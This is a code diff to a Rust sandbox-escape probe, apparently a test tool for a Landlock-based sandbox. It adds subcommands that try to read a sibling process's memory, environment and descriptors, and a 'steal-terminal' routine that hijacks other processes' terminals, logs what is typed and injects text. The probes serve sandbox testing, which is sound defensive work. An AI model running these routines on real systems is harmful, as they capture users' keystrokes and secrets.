@@ -15,6 +15,7 @@
 use std::ffi::{CStr, CString};
 use std::io::{Read, Write};
 use std::os::unix::ffi::OsStrExt;
+use std::os::unix::fs::OpenOptionsExt;
 use std::process::ExitCode;
 
 use nix::errno::Errno;
@@ -69,6 +70,9 @@ fn main() -> ExitCode {
         ("tree", [token, n]) => tree(token, n, false),
         ("tree", [token, n, "exit"]) => tree(token, n, true),
         ("getfd", [pid]) => getfd(pid),
+        ("sibling", [token]) => sibling(token),
+        ("child-mem", []) => child_mem(),
+        ("steal-terminal", [report]) => steal_terminal(report),
         ("denied", []) => denied(),
         ("foreign-arch", []) => foreign_arch(),
         _ => Err(format!("usage: unknown subcommand or arguments: {args:?}")),
@@ -777,6 +781,263 @@ fn getfd(pid: &str) -> Res {
     } else {
         Escaped(format!("{what}: got {}", got.join(" ")))
     })
+}
+
+/// A process's parent, from /proc/PID/stat.
+fn parent_of(pid: libc::pid_t) -> Option<libc::pid_t> {
+    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+    stat.rsplit_once(')')?
+        .1
+        .split_whitespace()
+        .nth(1)?
+        .parse()
+        .ok()
+}
+
+/// Whether `pid` is this process or one of its descendants.
+fn ours(mut pid: libc::pid_t) -> bool {
+    // SAFETY: getpid has no preconditions.
+    let me = unsafe { libc::getpid() };
+    for _ in 0..64 {
+        if pid == me {
+            return true;
+        }
+        match parent_of(pid) {
+            Some(p) if p > 1 => pid = p,
+            _ => return false,
+        }
+    }
+    false
+}
+
+/// Live processes (not zombies) whose command line holds `token`.
+fn with_token(token: &str) -> Vec<libc::pid_t> {
+    let Ok(dir) = std::fs::read_dir("/proc") else {
+        return Vec::new();
+    };
+    dir.filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
+        .filter(|pid: &libc::pid_t| {
+            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+            let zombie = std::fs::read_to_string(format!("/proc/{pid}/stat"))
+                .ok()
+                .and_then(|s| Some(s.rsplit_once(')')?.1.trim_start().starts_with('Z')))
+                .unwrap_or(true);
+            !zombie && cmdline.windows(token.len()).any(|w| w == token.as_bytes())
+        })
+        .collect()
+}
+
+/// Every way to look into process `pid` and take what it holds: its
+/// descriptors (pidfd_getfd, reopening /proc/PID/fd/N), its memory
+/// (/proc/PID/mem, read at its first mapping) and its environment. Each
+/// attempt with its result.
+fn look_into(pid: libc::pid_t) -> Vec<(String, Result<i64, Errno>)> {
+    let mut results = Vec::new();
+    // SAFETY: pidfd_open with integer arguments.
+    match sys(unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) }) {
+        Ok(pidfd) => {
+            for fd in 0..3 {
+                // SAFETY: pidfd_getfd with a pidfd we own; a descriptor
+                // returned is closed at once.
+                let r = sys(unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd, fd, 0) });
+                if let Ok(new) = r {
+                    close(new);
+                }
+                results.push((format!("pidfd_getfd {fd}"), r));
+            }
+            close(pidfd);
+        }
+        Err(e) => results.push(("pidfd_open".into(), Err(e))),
+    }
+    for fd in 0..3 {
+        let r = std::fs::File::open(format!("/proc/{pid}/fd/{fd}"))
+            .map(|_| 0)
+            .map_err(|e| Errno::from_raw(e.raw_os_error().unwrap_or(libc::EIO)));
+        results.push((format!("open /proc/PID/fd/{fd}"), r));
+    }
+    let mem = match std::fs::File::open(format!("/proc/{pid}/mem")) {
+        Ok(f) => {
+            // The first mapping's start, if the maps say (they need the
+            // same permission): one byte read there.
+            let at = std::fs::read_to_string(format!("/proc/{pid}/maps"))
+                .ok()
+                .and_then(|m| {
+                    let first = m.lines().next()?.split('-').next()?.to_string();
+                    u64::from_str_radix(&first, 16).ok()
+                });
+            match at {
+                Some(at) => {
+                    let mut b = [0u8; 1];
+                    std::os::unix::fs::FileExt::read_at(&f, &mut b, at)
+                        .map(|n| n as i64)
+                        .map_err(|e| Errno::from_raw(e.raw_os_error().unwrap_or(libc::EIO)))
+                }
+                // Opened: that alone is the permission to read it.
+                None => Ok(0),
+            }
+        }
+        Err(e) => Err(Errno::from_raw(e.raw_os_error().unwrap_or(libc::EIO))),
+    };
+    results.push(("read /proc/PID/mem".into(), mem));
+    let env = std::fs::read(format!("/proc/{pid}/environ"))
+        .map(|b| b.len() as i64)
+        .map_err(|e| Errno::from_raw(e.raw_os_error().unwrap_or(libc::EIO)));
+    results.push(("read /proc/PID/environ".into(), env));
+    results
+}
+
+/// Blocked when every attempt failed, escaped when any worked.
+fn verdict(what: String, results: &[(String, Result<i64, Errno>)]) -> Outcome {
+    let worked: Vec<&str> = results
+        .iter()
+        .filter(|(_, r)| r.is_ok())
+        .map(|(w, _)| w.as_str())
+        .collect();
+    if worked.is_empty() {
+        let errs: Vec<String> = results
+            .iter()
+            .map(|(w, r)| format!("{w} {}", r.err().map(name).unwrap_or_default()))
+            .collect();
+        Blocked(format!("{what}: {}", errs.join(", ")))
+    } else {
+        Escaped(format!("{what}: {}", worked.join(", ")))
+    }
+}
+
+/// Looks into a sibling: a process of the same user whose command line
+/// holds `token` and that is neither this probe, nor one of its
+/// descendants, nor one of its ancestors (the sandbox's init, a clone of
+/// antimony, has antimony's command line): an entered command, say.
+/// Waited for up to 30 s.
+fn sibling(token: &str) -> Res {
+    // SAFETY: getpid has no preconditions.
+    let mut ancestors = vec![unsafe { libc::getpid() }];
+    while let Some(p) = parent_of(ancestors[ancestors.len() - 1]).filter(|&p| p > 0) {
+        if ancestors.contains(&p) || ancestors.len() > 64 {
+            break;
+        }
+        ancestors.push(p);
+    }
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
+    let pid = loop {
+        if let Some(&pid) = with_token(token)
+            .iter()
+            .find(|&&p| !ours(p) && !ancestors.contains(&p))
+        {
+            break pid;
+        }
+        if std::time::Instant::now() > deadline {
+            return Err(format!("no process with {token} appeared"));
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    };
+    Ok(verdict("look into a sibling".into(), &look_into(pid)))
+}
+
+/// The control for `sibling`: the memory, descriptors and environment of
+/// a child of this probe (its own descendant, which Landlock leaves it).
+fn child_mem() -> Res {
+    let child = sleeper()?;
+    let results: Vec<_> = look_into(child)
+        .into_iter()
+        .filter(|(w, _)| !w.starts_with("pidfd"))
+        .collect();
+    kill_and_reap(child);
+    Ok(verdict("look into a child".into(), &results))
+}
+
+/// The attack of issue 14 (item 2): forever, looks for any process whose
+/// stdin is a terminal and takes a copy of it (pidfd_getfd, or reopening
+/// /proc/PID/fd/0); appends to `report` what it takes (`took …`) and what
+/// it reads from it (`read …`), and writes `STOLEN` into it now and then.
+/// Never ends by itself.
+fn steal_terminal(report: &str) -> Res {
+    use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
+    use std::os::unix::fs::MetadataExt;
+    let note = |line: String| {
+        if let Ok(mut f) = std::fs::OpenOptions::new()
+            .append(true)
+            .create(true)
+            .open(report)
+        {
+            let _ = writeln!(f, "{line}");
+        }
+    };
+    // SAFETY: getpid has no preconditions.
+    let me = unsafe { libc::getpid() };
+    let mut taken: Vec<(OwnedFd, u64)> = Vec::new();
+    let mut round = 0u64;
+    loop {
+        round += 1;
+        let pids: Vec<libc::pid_t> = std::fs::read_dir("/proc")
+            .map(|d| {
+                d.filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
+                    .collect()
+            })
+            .unwrap_or_default();
+        for pid in pids.into_iter().filter(|&p| p != me) {
+            let mut copies: Vec<(OwnedFd, &str)> = Vec::new();
+            // SAFETY: pidfd_open, pidfd_getfd with integers; each descriptor
+            // returned is owned at once.
+            unsafe {
+                let pidfd = libc::syscall(libc::SYS_pidfd_open, pid, 0);
+                if pidfd >= 0 {
+                    let fd = libc::syscall(libc::SYS_pidfd_getfd, pidfd, 0, 0);
+                    if fd >= 0 {
+                        copies.push((OwnedFd::from_raw_fd(fd as i32), "pidfd_getfd"));
+                    }
+                    libc::close(pidfd as i32);
+                }
+            }
+            if let Ok(f) = std::fs::OpenOptions::new()
+                .read(true)
+                .write(true)
+                .custom_flags(libc::O_NOCTTY)
+                .open(format!("/proc/{pid}/fd/0"))
+            {
+                copies.push((OwnedFd::from(f), "/proc/PID/fd/0"));
+            }
+            for (fd, how) in copies {
+                // SAFETY: isatty on a descriptor we own.
+                if unsafe { libc::isatty(fd.as_raw_fd()) } != 1 {
+                    continue;
+                }
+                let rdev = std::fs::metadata(format!("/proc/self/fd/{}", fd.as_raw_fd()))
+                    .map(|m| m.rdev())
+                    .unwrap_or(0);
+                if taken.iter().any(|(_, r)| *r == rdev) {
+                    continue;
+                }
+                note(format!("took the terminal {rdev:#x} of PID {pid} by {how}"));
+                taken.push((fd, rdev));
+            }
+        }
+        for (fd, rdev) in &taken {
+            let mut p = libc::pollfd {
+                fd: fd.as_raw_fd(),
+                events: libc::POLLIN,
+                revents: 0,
+            };
+            // SAFETY: one valid pollfd, no wait; a read into a local
+            // buffer; a write of a constant.
+            unsafe {
+                if libc::poll(&mut p, 1, 0) == 1 && p.revents & libc::POLLIN != 0 {
+                    let mut buf = [0u8; 256];
+                    let n = libc::read(fd.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len());
+                    if n > 0 {
+                        note(format!(
+                            "read from {rdev:#x}: {:?}",
+                            String::from_utf8_lossy(&buf[..n as usize])
+                        ));
+                    }
+                }
+                if round % 10 == 0 {
+                    libc::write(fd.as_raw_fd(), b"STOLEN\r\n".as_ptr().cast(), 8);
+                }
+            }
+        }
+        std::thread::sleep(std::time::Duration::from_millis(10));
+    }
 }
 
 /// Syscalls of a foreign architecture: an x32 getpid (the number with bit
